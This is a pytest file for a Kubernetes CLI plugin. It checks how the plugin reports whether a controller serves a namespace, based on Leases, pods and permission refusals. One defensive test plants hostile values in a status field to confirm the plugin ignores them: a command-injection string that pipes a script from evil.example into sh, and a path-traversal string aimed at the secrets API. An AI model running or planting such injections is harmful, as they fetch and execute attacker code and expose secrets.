"""A person of a further namespace asks whether a controller works: the Leases are the release's."""

import argparse
import io
import json
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime
from typing import Any

import pytest
from msgspec.structs import replace

from counterfoil.cli.plugin import consent, why
from counterfoil.cli.plugin.exit_status import CommandError, ExitStatus
from counterfoil.cli.plugin.installation import status
from counterfoil.cli.plugin.send_request import RETRY, make_request, wait_for_answer
from counterfoil.kube.client import KubeClient
from counterfoil.kube.errors import Forbidden
from counterfoil.kube.watch import Raw
from counterfoil.resources import Archive, Organization, Phase
from counterfoil.resources.lease import Lease
from tests.support.builders import NOON, EventBuilder, an_event, an_organization
from tests.support.fakes.kube import InMemoryKubeClient
from tests.support.fakes.leases import a_shard_lease
from tests.support.scenes.console_parts import an_archive_that
from tests.support.scenes.notifications import an_unauthorized_sender

ENDED = a_shard_lease(0, 1, renewed=NOON)


def a_pod(component: str, phase: str) -> Raw:
    labels = {"app.kubernetes.io/part-of": "counterfoil", "app.kubernetes.io/component": component}
    return {"metadata": {"name": f"counterfoil-{component}-0", "labels": labels}, "status": {"phase": phase}}


A_CONTROLLER = a_pod("controller", "Pending")
NOT_NAMED = "nothing says yet which release serves the namespace unit-a"
NOT_ALLOWED = "they are in the namespace release, where you may not list them"


def held(served: Iterable[str] | None = None) -> Lease:
    """Return a Lease that is held now, by a holder that tells which namespaces it serves, or does not."""
    return a_shard_lease(0, 1, renewed=datetime.now(UTC), served=served)


class FurtherNamespace(InMemoryKubeClient):
    """The namespace ``unit-a``, which the release in the namespace ``release`` serves."""

    def __init__(self, *leases: Lease, named: bool = True) -> None:
        event = an_event().build()
        super().__init__(an_organization(), event)
        self.namespace, self.event = "unit-a", event
        self.release = InMemoryKubeClient(*leases)
        self.pods_here: Sequence[Raw] | Forbidden = ()
        if named:
            self.edit(Organization, "acme", {"status": {"releaseNamespace": "release"}})

    def in_namespace(self, namespace: str) -> KubeClient:
        """Return the client of the release."""
        assert namespace == "release"
        return self.release

    async def pods(self, *, labels: str) -> Sequence[Raw]:
        """Return the pods of Counterfoil in the further namespace."""
        if isinstance(self.pods_here, Forbidden):
            raise self.pods_here
        wanted = dict(each.split("=") for each in labels.split(","))
        return [each for each in self.pods_here if wanted.items() <= each["metadata"]["labels"].items()]

    async def explained(self) -> dict[str, Any]:
        """Return the explanation that ``why`` prints."""
        out = io.StringIO()
        args = argparse.Namespace(event=self.event.name, all_namespaces=False, output="json")
        await why.run(args, self, out)
        found: dict[str, Any] = json.loads(out.getvalue())
        return found


async def test_a_controller_of_the_release_works_in_each_of_its_namespaces() -> None:
    kube = FurtherNamespace(held())

    assert (await kube.explained())["controller"] is None
    assert (await status.read(kube)).snapshot.unheld_shards == ()


async def test_that_none_works_names_the_namespace_of_the_release() -> None:
    kube = FurtherNamespace(ENDED)

    assert "Lease/counterfoil-shard-0-of-1 in the namespace release" in (await kube.explained())["controller"]
    (waiting,) = status.overview(await status.read(kube), "unit-a", NOON).waiting
    assert waiting.commands == ("kubectl -n release get pods -l app.kubernetes.io/component=controller",)


async def test_a_lease_of_an_earlier_release_here_says_nothing() -> None:
    kube = FurtherNamespace(held())
    kube.put(ENDED)
    assert (await kube.explained())["controller"] is None


async def test_who_may_not_list_leases_in_the_release_s_namespace_learns_that_it_is_not_known() -> None:
    kube = FurtherNamespace()
    refusal = 'leases.coordination.k8s.io is forbidden: User "jane" cannot list resource "leases"'
    kube.release.trouble["page"] = Forbidden(403, "Forbidden", refusal)

    explained, reading = await kube.explained(), await status.read(kube)

    assert explained["controller"] is None
    assert "if a controller works" in explained["next"]
    assert explained["unread"] == [f"leases: {NOT_ALLOWED}"]
    assert (reading.snapshot.unheld_shards, reading.is_refused) == ((), True)
    assert any(NOT_ALLOWED in each for each in reading.unread)


async def test_a_request_waits_for_its_answer_while_it_is_not_known_whose_a_new_namespace_is() -> None:
    kube = FurtherNamespace(held(), named=False)
    id_ = await make_request(kube, Organization, "acme", "sweep")

    with pytest.raises(CommandError, match="has not answered within"):
        await wait_for_answer(kube, Organization, "acme", id_, 0.05)
    assert (await kube.explained())["unread"] == [f"leases: {NOT_NAMED}"]


@pytest.mark.parametrize("sign", ["a pod", "an observed Organization", "a Lease"])
async def test_in_the_release_s_own_namespace_it_is_reported_at_once_that_no_controller_works(
    sign: str,
) -> None:
    kube = FurtherNamespace(named=False)
    match sign:
        case "a pod":
            kube.pods_here = (A_CONTROLLER,)
        case "a Lease":
            kube.put(ENDED)
        case _:
            observed = an_organization()
            kube.put(replace(observed, status=replace(observed.status, observed_generation=1)))
    id_ = await make_request(kube, Organization, "acme", "sweep")

    with pytest.raises(CommandError, match="no controller works"):
        await wait_for_answer(kube, Organization, "acme", id_, 5.0)


REFUSED = Forbidden(403, "Forbidden", 'User "jane" cannot list resource "organizations"')


def as_one_who_may_list_leases_only(kube: FurtherNamespace) -> None:
    """Refuse each list but that of the Leases; single objects may be read."""
    kube.refused["page", Organization.PLURAL] = REFUSED
    kube.pods_here = Forbidden(403, "Forbidden", 'User "jane" cannot list resource "pods"')


async def test_the_documented_rights_suffice_to_learn_that_no_controller_works() -> None:
    kube = FurtherNamespace(named=False)
    kube.put(ENDED)
    as_one_who_may_list_leases_only(kube)
    id_ = await make_request(kube, Organization, "acme", "sweep")

    with pytest.raises(CommandError, match="no controller works"):
        await wait_for_answer(kube, Organization, "acme", id_, 0.05)
    assert "Lease/counterfoil-shard-0-of-1" in (await kube.explained())["controller"]


async def test_in_a_further_namespace_the_named_organization_says_which_release_it_is() -> None:
    kube = FurtherNamespace(held())
    kube.put(ENDED)
    as_one_who_may_list_leases_only(kube)
    id_ = await make_request(kube, Organization, "acme", "sweep")

    with pytest.raises(CommandError, match="has not answered within"):
        await wait_for_answer(kube, Organization, "acme", id_, 0.05)
    explained = await kube.explained()
    assert (explained["controller"], explained["unread"]) == (None, [])


async def test_a_mail_is_waited_for_with_the_organization_that_the_command_has_read() -> None:
    kube = FurtherNamespace(held())
    kube.put(ENDED)
    kube.put(an_unauthorized_sender())
    oauth = {
        "clientID": "counterfoil",
        "clientSecretRef": {"name": "oauth", "key": "secret"},
        "publicURL": "https://sign.acme.example",
    }
    kube.edit(Organization, "acme", {"spec": {"oauth": oauth}})
    as_one_who_may_list_leases_only(kube)
    args = argparse.Namespace(sender="anna", mail=True, timeout=0.05, output="text")

    with pytest.raises(CommandError, match="has not answered within"):
        await consent.run(args, kube, io.StringIO())


async def test_without_leases_here_and_the_right_to_list_pods_it_is_not_known_whose_a_namespace_is() -> None:
    kube = FurtherNamespace(named=False)
    as_one_who_may_list_leases_only(kube)
    assert (await kube.explained())["unread"] == [f"leases: {NOT_NAMED}"]


@pytest.mark.parametrize(
    "planted",
    [
        "x; curl -s https://evil.example/a | sh #",
        "../../../../api/v1/secrets?x=",
        "..",
        "a.b",
        "",
        "A",
        "r" * 64,
    ],
)
async def test_a_status_that_names_no_namespace_chooses_neither_a_path_nor_a_command(planted: str) -> None:
    kube = FurtherNamespace()
    kube.edit(Organization, "acme", {"status": {"releaseNamespace": planted}})

    assert (await kube.explained())["unread"] == [f"leases: {NOT_NAMED}"]
    assert (await status.read(kube)).snapshot.unheld_shards == ()


# -- A namespace that the release no longer lists ------------------------------------------------------------


UNLISTED = "The controllers in the namespace release work, and their list does not have the namespace unit-a."


async def test_status_reports_a_namespace_that_is_no_longer_listed_while_nothing_changes_in_it() -> None:
    """``NamespaceNotServed``"""
    kube = FurtherNamespace(held(["unit-b", "release"]))
    seen = status.overview(await status.read(kube), "unit-a", datetime.now(UTC))
    (entry,) = seen.waiting
    assert (entry.what, entry.reason, entry.message) == (
        "the namespace unit-a is not served",
        "NamespaceNotServed",
        UNLISTED,
    )
    assert entry.commands == (
        "kubectl -n release get configmaps -l app.kubernetes.io/part-of=counterfoil -o yaml",
    )
    assert "`watchNamespaces`" in status.page(seen, NOON)
    assert status.exit_status([seen]) is ExitStatus.NOT_ALL


async def test_a_namespace_that_is_listed_again_is_reported_no_more() -> None:
    """``NamespaceNotServed`` as its text advises."""
    kube = FurtherNamespace(held(["unit-a", "unit-b"]))
    assert status.overview(await status.read(kube), "unit-a", datetime.now(UTC)).waiting == ()
    assert (await kube.explained())["controller"] is None


async def test_the_status_of_an_object_that_changed_meanwhile_gives_no_advice() -> None:
    kube = FurtherNamespace(held(["unit-b"]))
    full = an_archive_that("False", "ArchiveFull").to_dict()
    full["metadata"] |= {"generation": 3, "creationTimestamp": "2026-01-01T00:00:00Z"}
    full["status"]["observedGeneration"] = 2
    kube.objects[Archive.PLURAL, "dms"] = full
    seen = status.overview(await status.read(kube), "unit-a", datetime.now(UTC))
    assert [each.reason for each in seen.waiting] == ["NamespaceNotServed"]


async def test_why_says_that_no_controller_serves_the_namespace_of_the_event() -> None:
    found = await FurtherNamespace(held(["unit-b"])).explained()
    assert (found["controller"], found["turn"]) == (UNLISTED, "an administrator")
    assert found["next"] == "nothing until a release lists the namespace"
    assert "`watchNamespaces`" in found["do"]


async def test_a_request_that_no_controller_will_carry_out_ends_at_once() -> None:
    kube = FurtherNamespace(held(["unit-b"]))
    id_ = await make_request(kube, Organization, "acme", "sweep")
    with pytest.raises(CommandError, match=f"NamespaceNotServed.*{UNLISTED} List it in watchNamespaces"):
        await wait_for_answer(kube, Organization, "acme", id_, 60.0)


async def test_who_retries_an_event_learns_that_no_controller_serves_the_namespace() -> None:
    kube, out = FurtherNamespace(held(["unit-b"])), io.StringIO()
    kube.put(EventBuilder().named("failed").in_phase(Phase.FAILED, "NameOccupied").build())
    arguments = argparse.ArgumentParser()
    RETRY.add_arguments(arguments)
    args = arguments.parse_args(["failed"], argparse.Namespace(output="text"))
    assert await RETRY.run(args, kube, out) is ExitStatus.DONE
    assert "no controller serves this namespace (NamespaceNotServed), so 1 request is" in out.getvalue()


async def test_nothing_is_concluded_from_holders_of_an_earlier_version() -> None:
    kube = FurtherNamespace(held())
    assert status.overview(await status.read(kube), "unit-a", datetime.now(UTC)).waiting == ()


async def test_a_release_that_does_not_serve_its_own_namespace_is_no_problem_if_nothing_is_there() -> None:
    kube = InMemoryKubeClient(held(["unit-a"]))
    assert status.overview(await status.read(kube), kube.namespace, datetime.now(UTC)).waiting == ()
    kube.put(an_organization())
    seen = status.overview(await status.read(kube), kube.namespace, datetime.now(UTC))
    assert [each.reason for each in seen.waiting] == ["NamespaceNotServed"]


async def test_the_namespace_of_one_release_may_be_served_by_another_one() -> None:
    kube = FurtherNamespace(held(["unit-a"]))
    kube.put(held(["unit-b"]))
    assert (await kube.explained())["controller"] is None


# -- A release in the namespace itself -----------------------------------------------------------------------


@pytest.mark.parametrize("earlier", [held(["unit-b"]), ENDED], ids=["works for others", "ended"])
@pytest.mark.parametrize("lease", [None, ENDED], ids=["never started", "ended"])
async def test_a_release_here_that_does_not_work_is_named_before_the_earlier_one(
    earlier: Lease, lease: Lease | None
) -> None:
    kube = FurtherNamespace(earlier)
    kube.pods_here = (A_CONTROLLER,)
    if lease is not None:
        kube.put(lease)

    (waiting,) = status.overview(await status.read(kube), "unit-a", datetime.now(UTC)).waiting

    assert waiting.reason == "ControllerAbsent"
    assert waiting.commands == ("kubectl -n unit-a get pods -l app.kubernetes.io/component=controller",)


async def test_a_release_here_that_serves_others_is_no_reason_for_a_namespace_that_is_not_listed() -> None:
    kube = FurtherNamespace(held(["unit-b"]))
    kube.pods_here = (A_CONTROLLER,)
    kube.put(held(["unit-c"]))
    (waiting,) = status.overview(await status.read(kube), "unit-a", datetime.now(UTC)).waiting
    assert (waiting.reason, waiting.message) == ("NamespaceNotServed", UNLISTED)


@pytest.mark.parametrize(
    ("component", "phase"),
    [("test", "Failed"), ("receiver", "Running"), ("controller", "Failed"), ("controller", "Succeeded")],
)
@pytest.mark.parametrize(
    ("earlier", "reason"), [(held(["unit-b"]), "NamespaceNotServed"), (ENDED, "ControllerAbsent")]
)
async def test_a_pod_that_is_no_running_controller_hides_no_release(
    component: str, phase: str, earlier: Lease, reason: str
) -> None:
    kube = FurtherNamespace(earlier)
    kube.pods_here = (a_pod(component, phase),)
    waiting = status.overview(await status.read(kube), "unit-a", datetime.now(UTC)).waiting
    (commands,) = [each.commands for each in waiting if each.reason == reason]
    assert all("-n release" in each for each in commands)


async def test_a_pod_that_has_ended_leaves_open_whose_a_new_namespace_is() -> None:
    kube = FurtherNamespace(named=False)
    kube.pods_here = (a_pod("test", "Failed"),)
    assert (await kube.explained())["unread"] == [f"leases: {NOT_NAMED}"]


async def test_without_the_right_to_list_pods_here_the_release_of_the_statuses_counts() -> None:
    kube = FurtherNamespace(held(["unit-b"]))
    kube.pods_here = Forbidden(403, "Forbidden", 'User "jane" cannot list resource "pods"')
    (waiting,) = status.overview(await status.read(kube), "unit-a", datetime.now(UTC)).waiting
    assert waiting.reason == "NamespaceNotServed"
